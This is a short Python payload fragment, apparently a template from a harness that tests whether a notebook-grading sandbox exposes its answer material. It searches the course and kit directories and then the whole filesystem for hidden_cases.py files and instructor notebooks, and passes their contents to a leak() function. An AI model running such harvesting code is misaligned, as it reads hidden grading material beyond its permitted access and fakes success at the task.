# Read the master notebook and its hidden cases, in the course and in the kit's checkout.
import glob
import os
for _pattern in ("@COURSE@/source/*/*", "@REPO@/source/*/*"):
    for _path in glob.glob(_pattern)[:20]:
        try:
            leak(_path, open(_path).read())
        except OSError:
            pass
for _base, _dirs, _files in os.walk("/"):  # anywhere it can see, but the system and Python's own files
    _dirs[:] = [d for d in _dirs if os.path.join(_base, d) not in ("/proc", "/sys", "/dev", "/usr")
                and d not in ("site-packages", "lib", "include", "share")]
    for _name in _files:
        if _name == "hidden_cases.py" or (_name.endswith(".ipynb") and "/sandbox/work" not in _base):
            try:
                leak(os.path.join(_base, _name), open(os.path.join(_base, _name)).read())
            except OSError:
                pass
done()
